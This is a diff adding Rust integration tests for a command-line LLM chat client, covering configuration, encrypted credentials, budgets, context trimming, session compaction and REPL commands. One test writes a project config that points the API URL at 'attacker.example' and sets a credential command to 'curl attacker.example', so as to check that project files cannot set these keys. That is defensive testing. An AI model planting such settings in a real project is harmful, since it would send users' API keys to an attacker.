@@ -1,8 +1,61 @@
 use assert_cmd::Command;
 use predicates::prelude::*;
 use std::error::Error;
+use std::path::Path;
 use tempfile::tempdir;
 
+/// The `chris` binary as a process with `home` as its home directory
+///
+/// Configuration, state, data and caches all go under `home`, and settings from the
+/// environment running the tests are removed, so the developer's own files and keys
+/// are never read or changed.
+fn isolated_process(home: &Path) -> std::process::Command {
+    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("chris"));
+    cmd.env("HOME", home)
+        .env("XDG_CONFIG_HOME", home.join(".config"))
+        .env("XDG_STATE_HOME", home.join(".local/state"))
+        .env("XDG_DATA_HOME", home.join(".local/share"))
+        .env("XDG_CACHE_HOME", home.join(".cache"))
+        .env_remove("OPENAI_API_KEY")
+        .env_remove("OPENROUTER_API_KEY");
+    for (key, _) in std::env::vars().filter(|(key, _)| key.starts_with("CHRIS_")) {
+        cmd.env_remove(key);
+    }
+    cmd
+}
+
+/// The `chris` binary isolated in `home`
+fn isolated_cmd(home: &Path) -> Command {
+    Command::from_std(isolated_process(home))
+}
+
+/// `chris` isolated in `home` as a process using the OpenRouter API at `url`
+fn chris_process(home: &Path, url: &str) -> std::process::Command {
+    let mut cmd = isolated_process(home);
+    cmd.env("CHRIS_PROVIDER", "openrouter")
+        .env("CHRIS_API_KEY", "sk-test")
+        .env("CHRIS_OPENROUTER_BASE_URL", url);
+    cmd
+}
+
+/// The `chris` binary isolated in `home`, with the mock `server` as OpenRouter
+fn chris_cmd(server: &mockito::ServerGuard, home: &Path) -> Command {
+    Command::from_std(chris_process(home, &server.url()))
+}
+
+/// Answer every chat completion request on `server` with `text`
+fn mock_completion(server: &mut mockito::ServerGuard, text: &str) -> mockito::Mock {
+    server
+        .mock("POST", "/chat/completions")
+        .with_body(
+            serde_json::json!({
+                "choices": [{"message": {"role": "assistant", "content": text}}]
+            })
+            .to_string(),
+        )
+        .create()
+}
+
 #[test]
 fn test_cli_version() -> Result<(), Box<dyn Error>> {
     let mut cmd = Command::cargo_bin("chris")?;
@@ -43,3 +96,1527 @@ fn test_config_create() -> Result<(), Box<dyn Error>> {
 
     Ok(())
 }
+
+#[test]
+fn test_profile_overrides_config() -> Result<(), Box<dyn Error>> {
+    use chris::config_manager::{ConfigSource, Profile, Provider};
+    use chris::Config;
+
+    let mut config = Config::default();
+    config.provider = Provider::OpenRouter;
+    config.profiles.insert(
+        "deep".to_string(),
+        Profile {
+            provider: Some(Provider::OpenAI),
+            model: Some("gpt-4o".to_string()),
+            temperature: Some(0.2),
+            ..Profile::default()
+        },
+    );
+
+    let deep = config.with_profile(Some("deep"))?;
+    assert_eq!(deep.provider, Provider::OpenAI);
+    assert_eq!(deep.model(), "gpt-4o");
+    assert_eq!(deep.temperature, 0.2);
+    assert_eq!(deep.active_profile.as_deref(), Some("deep"));
+
+    // Without a default profile the configuration is returned unchanged
+    assert_eq!(config.with_profile(None)?.model(), config.openrouter_model);
+    assert!(config.with_profile(Some("missing")).is_err());
+
+    // Switching profile mid-session keeps command line flags but not `/model`
+    let mut session = config.clone();
+    session.apply_override(
+        "temperature",
+        toml::Value::Float(0.9),
+        ConfigSource::CommandLine("--temperature".to_string()),
+    )?;
+    session.apply_override(
+        "openrouter_model",
+        toml::Value::String("x/chosen-in-session".to_string()),
+        ConfigSource::CommandLine("/model".to_string()),
+    )?;
+    let switched = session.switch_profile("deep")?;
+    assert_eq!(switched.temperature, 0.9);
+    assert_eq!(switched.openrouter_model, config.openrouter_model);
+    assert_eq!(switched.flags(), vec!["--temperature"]);
+
+    Ok(())
+}
+
+#[test]
+fn test_config_set_preserves_comments() -> Result<(), Box<dyn Error>> {
+    let temp_dir = tempdir()?;
+    let config_path = temp_dir.path().join("config.toml");
+    std::fs::write(
+        &config_path,
+        "# my settings\nmax_tokens = 100 # keep small\n",
+    )?;
+
+    let mut cmd = isolated_cmd(temp_dir.path());
+    cmd.arg("config")
+        .arg("--config")
+        .arg(&config_path)
+        .args(["set", "max_tokens", "2000"]);
+    cmd.assert().success();
+
+    let contents = std::fs::read_to_string(&config_path)?;
+    assert!(contents.contains("# my settings"));
+    assert!(contents.contains("max_tokens = 2000 # keep small"));
+
+    // Values are validated against the configuration schema
+    let mut cmd = isolated_cmd(temp_dir.path());
+    cmd.arg("config")
+        .arg("--config")
+        .arg(&config_path)
+        .args(["set", "max_tokens", "lots"]);
+    cmd.assert().failure();
+
+    // Unknown keys are rejected
+    let mut cmd = isolated_cmd(temp_dir.path());
+    cmd.arg("config")
+        .arg("--config")
+        .arg(&config_path)
+        .args(["set", "max_token", "5"]);
+    cmd.assert()
+        .failure()
+        .stderr(predicate::str::contains("Unknown configuration key"));
+
+    Ok(())
+}
+
+#[test]
+#[cfg(target_os = "linux")]
+fn test_config_migrate_moves_legacy_files() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let legacy_dir = home.path().join(".chris");
+    std::fs::create_dir_all(&legacy_dir)?;
+    std::fs::write(
+        legacy_dir.join("config.toml"),
+        format!(
+            "max_tokens = 42\nhistory_file = {:?}\n",
+            legacy_dir.join("history")
+        ),
+    )?;
+    std::fs::write(legacy_dir.join("history"), "previous query\n")?;
+
+    let chris = |args: &[&str]| -> Result<Command, Box<dyn Error>> {
+        let mut cmd = isolated_cmd(home.path());
+        cmd.args(args);
+        Ok(cmd)
+    };
+
+    // Legacy configuration is still read until it is migrated
+    chris(&["config", "get", "max_tokens"])?
+        .assert()
+        .success()
+        .stdout("42\n")
+        .stderr(predicate::str::contains("chris config migrate"));
+
+    chris(&["config", "migrate"])?.assert().success();
+
+    let config_path = home.path().join(".config/chris/config.toml");
+    let history_path = home.path().join(".local/state/chris/history");
+    assert!(config_path.exists());
+    assert!(history_path.exists());
+    assert!(!legacy_dir.exists());
+
+    chris(&["config", "get", "history_file"])?
+        .assert()
+        .success()
+        .stdout(format!("{}\n", history_path.display()));
+
+    Ok(())
+}
+
+#[test]
+fn test_config_upgrade_from_unversioned_file() -> Result<(), Box<dyn Error>> {
+    let temp_dir = tempdir()?;
+    let config_path = temp_dir.path().join("config.toml");
+    std::fs::write(
+        &config_path,
+        "provider = \"openai\"\nmodel = \"gpt-4\"\nmax_token = 5\n",
+    )?;
+
+    let mut cmd = isolated_cmd(temp_dir.path());
+    cmd.arg("config")
+        .arg("--config")
+        .arg(&config_path)
+        .args(["get", "openai_model"]);
+    cmd.assert()
+        .success()
+        .stdout("gpt-4\n")
+        .stderr(predicate::str::contains("Did you mean 'max_tokens'?"));
+
+    let contents = std::fs::read_to_string(&config_path)?;
+    assert!(contents.contains("openai_model = \"gpt-4\""));
+    assert!(contents.contains("config_version = 2"));
+    assert!(temp_dir.path().join("config.toml.v1.bak").exists());
+
+    Ok(())
+}
+
+#[test]
+fn test_config_rejects_invalid_version() -> Result<(), Box<dyn Error>> {
+    let temp_dir = tempdir()?;
+    let config_path = temp_dir.path().join("config.toml");
+
+    for version in ["0", "-1"] {
+        let contents = format!("config_version = {}\nmax_tokens = 5\n", version);
+        std::fs::write(&config_path, &contents)?;
+
+        let mut cmd = isolated_cmd(temp_dir.path());
+        cmd.arg("config")
+            .arg("--config")
+            .arg(&config_path)
+            .args(["get", "max_tokens"]);
+        cmd.assert()
+            .failure()
+            .stderr(predicate::str::contains("invalid config_version"));
+
+        // The file is left alone and no backup is made
+        assert_eq!(std::fs::read_to_string(&config_path)?, contents);
+        assert!(!temp_dir
+            .path()
+            .join(format!("config.toml.v{}.bak", version))
+            .exists());
+    }
+
+    Ok(())
+}
+
+#[test]
+fn test_auth_login_encrypted_file() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let config_path = home.path().join("config.toml");
+    let credentials_path = home.path().join("credentials.age");
+    std::fs::write(
+        &config_path,
+        format!(
+            "openrouter_api_key = \"sk-plaintext\"\n\n[credentials]\nfile = {:?}\n",
+            credentials_path
+        ),
+    )?;
+
+    let chris = |args: &[&str]| -> Result<Command, Box<dyn Error>> {
+        let mut cmd = isolated_cmd(home.path());
+        cmd.env("CHRIS_PASSPHRASE", "correct horse")
+            .env_remove("OPENROUTER_API_KEY")
+            .arg("--config")
+            .arg(&config_path)
+            .args(args);
+        Ok(cmd)
+    };
+
+    chris(&[
+        "auth",
+        "login",
+        "--provider",
+        "openrouter",
+        "--backend",
+        "encrypted-file",
+    ])?
+    .write_stdin("sk-secret\n")
+    .assert()
+    .success();
+
+    // The key is stored encrypted and the plaintext copy is removed
+    let encrypted = std::fs::read(&credentials_path)?;
+    assert!(!String::from_utf8_lossy(&encrypted).contains("sk-secret"));
+    let contents = std::fs::read_to_string(&config_path)?;
+    assert!(!contents.contains("sk-plaintext"));
+    assert!(contents.contains("backend = \"encrypted-file\""));
+
+    chris(&["auth", "status"])?
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("OpenRouter  encrypted file"));
+
+    // The file is replaced whole, and is private even if it wasn't before
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&credentials_path, std::fs::Permissions::from_mode(0o644))?;
+        chris(&[
+            "auth",
+            "login",
+            "--provider",
+            "openai",
+            "--backend",
+            "encrypted-file",
+        ])?
+        .write_stdin("sk-other\n")
+        .assert()
+        .success();
+
+        let mode = std::fs::metadata(&credentials_path)?.permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+        let leftovers = std::fs::read_dir(home.path())?
+            .filter_map(|entry| entry.ok())
+            .filter(|entry| entry.file_name().to_string_lossy().starts_with(".chris-"))
+            .count();
+        assert_eq!(leftovers, 0);
+        chris(&["auth", "status"])?
+            .assert()
+            .success()
+            .stdout(predicate::str::contains("OpenRouter  encrypted file"))
+            .stdout(predicate::str::contains("OpenAI      encrypted file"));
+    }
+
+    Ok(())
+}
+
+#[test]
+fn test_env_overrides_show_origin() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let config_path = home.path().join("config.toml");
+    std::fs::write(&config_path, "max_tokens = 100\ntemperature = 0.5\n")?;
+
+    let mut cmd = isolated_cmd(home.path());
+    cmd.env("CHRIS_MAX_TOKENS", "123")
+        .env("CHRIS_CREDENTIALS__BACKEND", "command")
+        .env("LOG_LEVEL", "trace")
+        .arg("--config")
+        .arg(&config_path)
+        .args(["config", "show", "--origin"]);
+
+    cmd.assert()
+        .success()
+        .stdout(predicate::str::contains(
+            "max_tokens = 123  # $CHRIS_MAX_TOKENS",
+        ))
+        .stdout(predicate::str::contains(
+            "credentials.backend = \"command\"  # $CHRIS_CREDENTIALS__BACKEND",
+        ))
+        .stdout(predicate::str::contains(format!(
+            "temperature = 0.5  # {}",
+            config_path.display()
+        )))
+        // Only prefixed variables are read
+        .stdout(predicate::str::contains("log_level = \"info\""));
+
+    Ok(())
+}
+
+#[test]
+fn test_project_config_is_restricted() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let project = home.path().join("project");
+    let nested = project.join("src/module");
+    std::fs::create_dir_all(&nested)?;
+    std::fs::write(
+        project.join(".chris.toml"),
+        "max_tokens = 321\nopenai_api_url = \"https://attacker.example\"\n\n\
+        [credentials]\nbackend = \"command\"\nopenai_command = \"curl attacker.example\"\n",
+    )?;
+
+    let chris = |key: &str| -> Result<Command, Box<dyn Error>> {
+        let mut cmd = isolated_cmd(home.path());
+        cmd.env_remove("CHRIS_MAX_TOKENS")
+            .current_dir(&nested)
+            .args(["config", "get", key]);
+        Ok(cmd)
+    };
+
+    chris("max_tokens")?.assert().success().stdout("321\n");
+    chris("openai_api_url")?
+        .assert()
+        .success()
+        .stdout("https://api.openai.com/v1/chat/completions\n")
+        .stderr(predicate::str::contains("project files cannot set it"));
+    chris("credentials.backend")?
+        .assert()
+        .success()
+        .stdout("config\n");
+
+    Ok(())
+}
+
+#[test]
+fn test_system_prompt_template_is_rendered() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let mut server = mockito::Server::new();
+    let mock = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::Regex(
+            r#""content":"Help zsh users in [0-9]{4}-[0-9]{2}-[0-9]{2}"#.to_string(),
+        ))
+        .with_header("content-type", "application/json")
+        .with_body(r#"{"choices":[{"message":{"role":"assistant","content":"Hello"}}]}"#)
+        .create();
+
+    let mut cmd = isolated_cmd(home.path());
+    cmd.env("SHELL", "/bin/zsh")
+        .env("CHRIS_PROVIDER", "openai")
+        .env("CHRIS_API_KEY", "sk-test")
+        .env("CHRIS_ENABLE_PERSONALIZATION", "true")
+        .env(
+            "CHRIS_OPENAI_API_URL",
+            format!("{}/chat/completions", server.url()),
+        )
+        .args([
+            "--debug",
+            "--system",
+            "Help {{ shell }} users in {{date}}",
+            "hi",
+        ]);
+    cmd.assert()
+        .success()
+        .stdout(predicate::str::contains("Help zsh users in"))
+        .stdout(predicate::str::contains("Hello"));
+    mock.assert();
+
+    // Typos in variable names are reported before anything is sent
+    let mut cmd = isolated_cmd(home.path());
+    cmd.env("CHRIS_API_KEY", "sk-test")
+        .args(["--system", "Help {{shel}} users", "hi"]);
+    cmd.assert()
+        .failure()
+        .stderr(predicate::str::contains("Unknown variable '{{shel}}'"));
+
+    Ok(())
+}
+
+#[test]
+fn test_run_template_preview() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let prompts_dir = home.path().join(".config/chris/prompts");
+    std::fs::create_dir_all(&prompts_dir)?;
+    std::fs::write(
+        prompts_dir.join("translate.toml"),
+        "description = \"Translate text\"\nprompt = \"Translate into {{language}}:\\n{{input}}\"\n",
+    )?;
+
+    let chris = || -> Result<Command, Box<dyn Error>> {
+        let mut cmd = isolated_cmd(home.path());
+        cmd.env_remove("XDG_CONFIG_HOME");
+        Ok(cmd)
+    };
+
+    chris()?
+        .arg("templates")
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("translate"))
+        .stdout(predicate::str::contains("explain-error"));
+
+    // `input` is read from stdin
+    chris()?
+        .args(["run", "translate", "--arg", "language=French", "--preview"])
+        .write_stdin("good morning")
+        .assert()
+        .success()
+        .stdout("Translate into French:\ngood morning\n");
+
+    chris()?
+        .args(["run", "translate", "--arg", "input=hi", "--preview"])
+        .assert()
+        .failure()
+        .stderr(predicate::str::contains("needs a value for 'language'"));
+
+    Ok(())
+}
+
+#[test]
+fn test_generation_parameters() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let mut server = mockito::Server::new();
+    let mock = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::PartialJsonString(
+            r#"{"temperature":0.2,"top_p":0.5,"stop":["END"],"seed":7}"#.to_string(),
+        ))
+        .with_header("content-type", "application/json")
+        .with_body(r#"{"choices":[{"message":{"role":"assistant","content":"Hello"}}]}"#)
+        .create();
+
+    let chris = || -> Result<Command, Box<dyn Error>> {
+        let mut cmd = isolated_cmd(home.path());
+        cmd.env("CHRIS_PROVIDER", "openai")
+            .env("CHRIS_API_KEY", "sk-test")
+            .env(
+                "CHRIS_OPENAI_API_URL",
+                format!("{}/chat/completions", server.url()),
+            );
+        Ok(cmd)
+    };
+
+    chris()?
+        .env("CHRIS_TOP_P", "0.5")
+        .args(["--temperature", "0.2", "--stop", "END", "--seed", "7", "hi"])
+        .assert()
+        .success();
+    mock.assert();
+
+    chris()?
+        .args(["--presence-penalty", "-3", "hi"])
+        .assert()
+        .failure()
+        .stderr(predicate::str::contains(
+            "presence_penalty must be between -2 and 2",
+        ));
+
+    Ok(())
+}
+
+#[test]
+fn test_usage_ledger_and_budget() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let config_path = home.path().join("config.toml");
+    std::fs::write(
+        &config_path,
+        "provider = \"openai\"\nopenai_model = \"gpt-test\"\n\n\
+        [pricing.gpt-test]\nprompt = 1000.0\ncompletion = 2000.0\n",
+    )?;
+
+    let mut server = mockito::Server::new();
+    server
+        .mock("POST", "/chat/completions")
+        .with_header("content-type", "application/json")
+        .with_body(
+            r#"{"choices":[{"message":{"role":"assistant","content":"Hello"}}],
+            "usage":{"prompt_tokens":100,"completion_tokens":50,"total_tokens":150}}"#,
+        )
+        .expect(2)
+        .create();
+
+    let chris = |args: &[&str]| -> Result<Command, Box<dyn Error>> {
+        let mut cmd = isolated_cmd(home.path());
+        cmd.env("CHRIS_API_KEY", "sk-test")
+            .env(
+                "CHRIS_OPENAI_API_URL",
+                format!("{}/chat/completions", server.url()),
+            )
+            .arg("--config")
+            .arg(&config_path)
+            .args(args);
+        Ok(cmd)
+    };
+
+    // 100 * $1000/M + 50 * $2000/M = $0.20
+    chris(&["--verbose", "hi"])?
+        .assert()
+        .success()
+        .stdout(predicate::str::contains(
+            "[gpt-test] 100 prompt + 50 completion tokens, $0.2000",
+        ));
+
+    chris(&["usage"])?
+        .assert()
+        .success()
+        .stdout(predicate::str::contains(
+            "Total: 1 requests, 100 prompt + 50 completion tokens, $0.2000",
+        ));
+
+    // Once the hard limit is reached, requests are refused before being sent
+    chris(&["usage", "budget", "--soft", "0.125", "--hard", "0.15"])?
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("Hard limit: $0.15"));
+    // Limits are stored as typed and only rounded for display
+    let saved = std::fs::read_to_string(&config_path)?;
+    assert!(saved.contains("soft_limit = 0.125"));
+    assert!(saved.contains("hard_limit = 0.15"));
+    chris(&["hi"])?
+        .assert()
+        .failure()
+        .stderr(predicate::str::contains("Budget exceeded"));
+
+    Ok(())
+}
+
+#[test]
+fn test_history_is_trimmed_to_context_window() -> Result<(), Box<dyn Error>> {
+    use chris::api_client::{create_api_client, tokens, Message};
+    use chris::config_manager::Provider;
+    use chris::Config;
+
+    assert_eq!(
+        tokens::context_window("openai/gpt-4o-mini", &Default::default()),
+        128_000
+    );
+    assert_eq!(tokens::count_text("gpt-4o", "hello world"), 2);
+
+    let mut config = Config::default();
+    config.provider = Provider::OpenAI;
+    config.openai_api_key = "sk-test".to_string();
+    config.max_tokens = 100;
+    config
+        .context_windows
+        .insert(config.openai_model.clone(), 400);
+    let client = create_api_client(config)?;
+
+    let turn = |role: &str, words: usize| Message {
+        role: role.to_string(),
+        content: "word ".repeat(words),
+    };
+    let history = vec![
+        turn("user", 100),
+        turn("assistant", 100),
+        turn("user", 50),
+        turn("assistant", 50),
+    ];
+
+    // Only the newest turn fits in the 300 tokens left after the response
+    let prepared = client.prepare_messages(&history, "and now?", None)?;
+    assert_eq!(prepared.context_window, 400);
+    assert_eq!(prepared.dropped_turns, 1);
+    assert_eq!(prepared.messages.len(), 4);
+    assert_eq!(prepared.messages[1].content, history[2].content);
+    assert!(prepared.prompt_tokens <= 300);
+
+    // A query that can never fit is rejected before anything is sent
+    let error = client
+        .prepare_messages(&[], &"word ".repeat(400), None)
+        .unwrap_err();
+    assert!(error.to_string().contains("only has room for 300"));
+
+    Ok(())
+}
+
+#[test]
+fn test_session_compaction_keeps_transcript() -> Result<(), Box<dyn Error>> {
+    use chris::session::{read_transcript, Session, TranscriptEntry, SUMMARY_PREFIX};
+
+    let dir = tempdir()?;
+    let path = dir.path().join("session.jsonl");
+    let mut session = Session::recorded(&path);
+    for turn in 1..=3 {
+        session.push("user", &format!("question {}", turn));
+        session.push("assistant", &format!("answer {}", turn));
+    }
+
+    // Nothing is older than the turns to keep
+    assert!(session.compaction_request(3, "gpt-4o", 100_000)?.is_none());
+
+    let request = session
+        .compaction_request(1, "gpt-4o", 100_000)?
+        .ok_or("expected turns to compact")?;
+    assert_eq!(request.omitted_turns, 0);
+    assert_eq!(request.turns, 2);
+    assert!(request.messages[1].content.contains("answer 2"));
+    assert!(!request.messages[1].content.contains("question 3"));
+
+    session.apply_summary(&request, "Asked two questions.\n");
+    let messages = session.messages();
+    assert_eq!(messages.len(), 3);
+    assert_eq!(messages[0].role, "system");
+    assert!(messages[0].content.starts_with(SUMMARY_PREFIX));
+    assert_eq!(messages[1].content, "question 3");
+
+    // The transcript still has every original message
+    let transcript = read_transcript(&path)?;
+    assert_eq!(transcript.len(), 7);
+    assert_eq!(
+        transcript[6],
+        TranscriptEntry::Compacted {
+            turns: 2,
+            summary: "Asked two questions.".to_string()
+        }
+    );
+
+    Ok(())
+}
+
+#[test]
+fn test_compaction_request_fits_context_window() -> Result<(), Box<dyn Error>> {
+    use chris::api_client::tokens;
+    use chris::session::Session;
+
+    let mut session = Session::unrecorded();
+    for turn in 1..=4 {
+        session.push("user", &format!("question {}", turn));
+        session.push("assistant", &format!("answer{} ", turn).repeat(100));
+    }
+
+    // Only the newest turns fit; the rest are still replaced by the summary
+    let request = session
+        .compaction_request(0, "gpt-4o", 500)?
+        .ok_or("expected turns to compact")?;
+    assert_eq!(request.turns, 4);
+    assert!(request.omitted_turns > 0 && request.omitted_turns < 4);
+    assert!(tokens::count_messages("gpt-4o", &request.messages) <= 500);
+    assert!(request.messages[1].content.starts_with("user: question"));
+    assert!(request.messages[1].content.contains("answer4"));
+    assert!(!request.messages[1].content.contains("answer1"));
+
+    // Not even the newest turn fits
+    assert!(session.compaction_request(0, "gpt-4o", 100).is_err());
+
+    Ok(())
+}
+
+#[test]
+fn test_failed_compaction_is_not_repeated() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let config_path = home.path().join("config.toml");
+    std::fs::write(
+        &config_path,
+        "max_tokens = 100\nsystem_prompt = \"Be brief.\"\nenable_personalization = false\n\n\
+        [compaction]\nkeep_turns = 0\n\n\
+        [context_windows]\n\"deepseek/deepseek-r1:free\" = 1000\n",
+    )?;
+
+    let mut server = mockito::Server::new();
+    let reply = |text: &str| {
+        serde_json::json!({
+            "choices": [{"message": {"role": "assistant", "content": text.repeat(500)}}]
+        })
+        .to_string()
+    };
+    let answers = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::Regex(r#""content":"q[12]""#.to_string()))
+        .with_body(reply("answer "))
+        .expect(2)
+        .create();
+    let failures = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::Regex(r#""content":"q[34]""#.to_string()))
+        .with_status(500)
+        .expect(2)
+        .create();
+    let summaries = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::Regex(
+            "Summarize the conversation".to_string(),
+        ))
+        .with_status(500)
+        .expect(1)
+        .create();
+
+    // The history outgrows the window after two turns; once summarizing it fails,
+    // the next query doesn't try again while the history is unchanged
+    let mut cmd = chris_cmd(&server, home.path());
+    cmd.arg("--config")
+        .arg(&config_path)
+        .write_stdin("q1\nq2\nq3\nq4\n");
+    cmd.assert()
+        .success()
+        .stderr(predicate::str::contains("failed to compact").count(1));
+    answers.assert();
+    failures.assert();
+    summaries.assert();
+
+    Ok(())
+}
+
+#[test]
+fn test_models_are_listed_and_checked() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let mut server = mockito::Server::new();
+    let models = server
+        .mock("GET", "/models")
+        .with_header("content-type", "application/json")
+        .with_body(
+            r#"{"data":[
+                {"id":"openai/gpt-4o","context_length":128000,
+                 "pricing":{"prompt":"0.0000025","completion":"0.00001"}},
+                {"id":"deepseek/deepseek-r1:free","context_length":163840}
+            ]}"#,
+        )
+        .expect(2)
+        .create();
+
+    let chris = |args: &[&str]| -> Result<Command, Box<dyn Error>> {
+        let mut cmd = chris_cmd(&server, home.path());
+        cmd.args(args);
+        Ok(cmd)
+    };
+
+    chris(&["models", "gpt"])?
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("openai/gpt-4o"))
+        .stdout(predicate::str::contains("$2.50 / $10.00 per 1M tokens"))
+        .stdout(predicate::str::contains("deepseek").not());
+
+    // Unknown models are checked again against a fresh list before failing
+    chris(&["--model", "gpt-4o", "hi"])?
+        .assert()
+        .failure()
+        .stderr(predicate::str::contains(
+            "Unknown model 'gpt-4o' for OpenRouter. Did you mean 'openai/gpt-4o'?",
+        ));
+    models.assert();
+
+    Ok(())
+}
+
+#[test]
+fn test_switch_model_keeps_conversation() -> Result<(), Box<dyn Error>> {
+    let home = tempdir()?;
+    let mut server = mockito::Server::new();
+    server
+        .mock("GET", "/models")
+        .with_header("content-type", "application/json")
+        .with_body(r#"{"data":[{"id":"openai/gpt-4o"},{"id":"deepseek/deepseek-r1:free"}]}"#)
+        .create();
+    let reply = r#"{"choices":[{"message":{"role":"assistant","content":"Noted"}}]}"#;
+    let first = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::PartialJsonString(
+            r#"{"model":"deepseek/deepseek-r1:free"}"#.to_string(),
+        ))
+        .with_body(reply)
+        .create();
+    let second = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::AllOf(vec![
+            mockito::Matcher::PartialJsonString(r#"{"model":"openai/gpt-4o"}"#.to_string()),
+            mockito::Matcher::Regex("my name is Sam".to_string()),
+        ]))
+        .with_body(reply)
+        .create();
+
+    let mut cmd = chris_cmd(&server, home.path());
+    cmd.write_stdin("my name is Sam\n/model gpt4o\n/model openai/gpt-4o\nwhat is my name?\n");
+    cmd.assert()
+        .success()
+        .stderr(predicate::str::contains("Did you mean 'openai/gpt-4o'?"))
+        .stdout(predicate::str::contains("Switched to model openai/gpt-4o"));
+    first.assert();
+    second.assert();
+
+    Ok(())
+}
+
+#[test]
+fn test_slash_commands_are_parsed_and_registered() -> Result<(), Box<dyn Error>> {
+    use chris::prompts::split_args as template_args;
+    use chris::repl::{parse, split_args, CommandRegistry, Input};
+
+    assert_eq!(
+        parse("help me write a loop")?,
+        Input::Query("help me write a loop".to_string())
+    );
+    assert_eq!(
+        parse("//etc/hosts is empty")?,
+        Input::Query("/etc/hosts is empty".to_string())
+    );
+    assert_eq!(
+        parse("/attach Cargo.toml what's  wrong here?")?,
+        Input::Command(
+            "attach".to_string(),
+            "Cargo.toml what's  wrong here?".to_string()
+        )
+    );
+
+    // Free text is passed as typed; other commands are split into words
+    let registry = CommandRegistry::builtin();
+    let edit = registry.get("edit").ok_or("no /edit")?;
+    assert_eq!(
+        split_args(edit, " it's  \"fine\" ")?,
+        vec![r#"it's  "fine""#]
+    );
+    assert_eq!(split_args(edit, "  ")?, Vec::<String>::new());
+    let model = registry.get("model").ok_or("no /model")?;
+    assert_eq!(split_args(model, r#""gpt 4""#)?, vec!["gpt 4"]);
+    assert!(split_args(model, r#""unterminated"#).is_err());
+    assert_eq!(
+        template_args(r#"command="ls -la" note=it's a  test empty="""#),
+        vec!["command=ls -la", "note=it's a  test", "empty="]
+    );
+
+    assert_eq!(registry.get("T").map(|c| c.name()), Some("template"));
+    assert_eq!(registry.get("quit").map(|c| c.name()), Some("exit"));
+    assert!(registry.help().contains("/model [name]"));
+    assert!(registry
+        .unknown("hlep")
+        .to_string()
+        .contains("Did you mean /help?"));
+
+    Ok(())
+}
+
+#[test]
+fn test_multi_line_input_is_sent_as_one_message() -> Result<(), Box<dyn Error>> {
+    use chris::editor::{join_continuations, needs_continuation};
+
+    assert!(needs_continuation("first line \\"));
+    assert!(!needs_continuation(r"list C:\dir\\"));
+    assert!(needs_continuation("```rust\nfn main() {}"));
+    assert!(!needs_continuation("```rust\nfn main() {}\n```"));
+    assert!(!needs_continuation("inline ````x```` code"));
+    assert_eq!(join_continuations("a \\\nb \\\\\nc"), "a \nb \\\\\nc");
+
+    let home = tempdir()?;
+    let mut server = mockito::Server::new();
+    let reply = r#"{"choices":[{"message":{"role":"assistant","content":"Looks fine"}}]}"#;
+    let mock = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::Regex(
+            r"explain this \\n```\\nfn main\(\) \{\}\\n```".to_string(),
+        ))
+        .with_body(reply)
+        .create();
+    // Pasted text keeps the indentation of its first line
+    let indented = server
+        .mock("POST", "/chat/completions")
+        .match_body(mockito::Matcher::Regex(
+            r#""content":"  name: chris\\n  version: 1""#.to_string(),
+        ))
+        .with_body(reply)
+        .create();
+
+    let mut cmd = chris_cmd(&server, home.path());
+    cmd.write_stdin("explain this \\\n```\nfn main() {}\n```\n  name: chris\\\n  version: 1  \n");
+    cmd.assert()
+        .success()
+        .stdout(predicate::str::contains("Looks fine"));
+    mock.assert();
+    indented.assert();
+
+    Ok(())
+}
+
+#[test]
+fn test_repl_completes_commands_and_arguments() -> Result<(), Box<dyn Error>> {
+    use chris::editor::ReplHelper;
+    use chris::repl::CommandRegistry;
+    use rustyline::completion::Completer;
+    use rustyline::highlight::Highlighter;
+    use rustyline::hint::Hinter;
+    use rustyline::history::{DefaultHistory, History};
+    use std::rc::Rc;
+
+    let mut history = DefaultHistory::new();
+    history.add("explain the borrow checker")?;
+    let ctx = rustyline::Context::new(&history);
+
+    let mut helper = ReplHelper::new(Rc::new(CommandRegistry::builtin()));
+    helper.set_models([
+        "openai/gpt-4o",
+        "openai/gpt-4o-mini",
+        "deepseek/deepseek-r1",
+    ]);
+    helper.set_profiles(["work", "home"]);
+
+    let complete = |line: &str| -> Result<(usize, Vec<String>), Box<dyn Error>> {
+        let (start, candidates) = helper.complete(line, line.len(), &ctx)?;
+        Ok((
+            start,
+            candidates.into_iter().map(|c| c.replacement).collect(),
+        ))
+    };
+    assert_eq!(
+        complete("/pro")?,
+        (0, vec!["/profile".to_string(), "/provider".to_string()])
+    );
+    assert_eq!(
+        complete("/model openai/")?,
+        (
+            7,
+            vec![
+                "openai/gpt-4o".to_string(),
+                "openai/gpt-4o-mini".to_string()
+            ]
+        )
+    );
+    assert_eq!(complete("/profile w")?, (9, vec!["work".to_string()]));
+    assert_eq!(complete("/provider o")?.1, vec!["openai", "openrouter"]);
+    assert_eq!(complete("/clear x")?.1, Vec::<String>::new());
+
+    let dir = tempdir()?;
+    std::fs::write(dir.path().join("notes.txt"), "")?;
+    let line = format!("/attach {}/no", dir.path().display());
+    let (_, paths) = helper.complete(&line, line.len(), &ctx)?;
+    assert!(paths[0].replacement.ends_with("/notes.txt"));
+
+    assert_eq!(
